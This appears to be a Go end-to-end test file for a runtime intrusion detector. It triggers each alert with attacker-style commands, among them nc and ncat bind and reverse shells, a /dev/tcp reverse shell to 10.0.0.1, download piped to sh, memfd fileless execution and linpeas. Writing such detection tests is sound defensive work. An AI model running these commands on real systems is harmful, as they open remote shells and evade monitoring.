package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"eunomia/internal/testutil"

	"golang.org/x/sys/unix"
)

// served is the beginning of a script whose program is started by nc, with its standard streams on a connection.
const served = `serve() { nc -l -p 4444 -e "$@" & until nc -w 1 127.0.0.1 4444 </dev/null; do usleep 20000; done; }
`

var provokeExecution = map[string]provocation{
	"shell_in_container":               inContainer(`true`, inTerminal),
	"reverse_shell":                    inContainer(served + `serve /bin/sh`),
	"interpreter_connected_to_network": inContainer(served + `serve /bin/busybox`),
	"command_output_to_network":        inContainer(served + `serve /usr/bin/id`),
	"network_relay_executes_program":   inContainer(`run ncat -e /bin/sh 10.0.0.1 4444`),
	"inline_reverse_shell_code":        inContainer(`run sh -c 'sh -i >& /dev/tcp/10.0.0.1/4444 0>&1'`),
	"interactive_shell_over_pipe":      inContainer(`echo exit | run sh -i`),

	"execution_from_shared_memory":       onHost(`mkdir /dev/shm; cp /bin/busybox /dev/shm/true; /dev/shm/true`),
	"execution_from_temporary_directory": inContainer(`cp /bin/busybox /tmp/true; /tmp/true`),
	"execution_from_unusual_directory":   inContainer(`cp /bin/busybox /etc/true; /etc/true`),
	"hidden_program_executed":            inContainer(`ln -s /bin/busybox /root/.x; /root/.x`),
	"fileless_execution":                 fromMemory,
	"deleted_program_executed":           inContainer(`cp /bin/busybox /root/x; exec 5</root/x; rm /root/x; /proc/self/fd/5 true`),
	"program_not_in_image":               inContainer(`cp /bin/busybox /root/true; /root/true`),
	"installed_program_not_in_image":     inContainer(`cp /bin/busybox /usr/bin/x; /usr/bin/x true`),

	"package_manager_in_container":          inContainer(`run apk add curl`),
	"language_package_manager_in_container": inContainer(`run pip install requests`),
	"download_piped_to_interpreter":         inContainer(`run sh -c 'wget -qO- http://127.0.0.1:1/x | sh'`),
	"script_run_from_temporary_directory":   inContainer(`echo : >/tmp/x; run sh /tmp/x`),

	"web_server_spawned_shell":         inContainer(`program nginx '/bin/sh -c id'; nginx`),
	"web_server_ran_discovery_command": inContainer(`program nginx /usr/bin/id; nginx`),
	"database_spawned_shell":           inContainer(`program postgres '/bin/sh -c id'; postgres`),
	"java_spawned_shell":               inContainer(`program java '/bin/sh -c id'; java`),
	"service_account_shell":            onHost(`true`, asNobody, onTerminal),
	"attack_toolkit_executed":          inContainer(`run linpeas.sh`),
}

// fromMemory executes a program that is in no file system.
func fromMemory(t *testing.T) func(liveAlert) bool {
	t.Helper()
	content, err := os.ReadFile(filepath.Join(testutil.BusyboxRoot(t), "bin/busybox"))
	if err != nil {
		t.Fatal(err)
	}
	fd, err := unix.MemfdCreate("e2e", unix.MFD_CLOEXEC)
	if err != nil {
		t.Fatal(err)
	}
	program := os.NewFile(uintptr(fd), "memfd")
	defer program.Close()
	if _, err := program.Write(content); err != nil {
		t.Fatal(err)
	}
	c := exec.Command("/proc/self/fd/3")
	c.Args[0] = "true"
	c.ExtraFiles = []*os.File{program}
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return func(a liveAlert) bool { return a.descends(c.Process.Pid) }
}
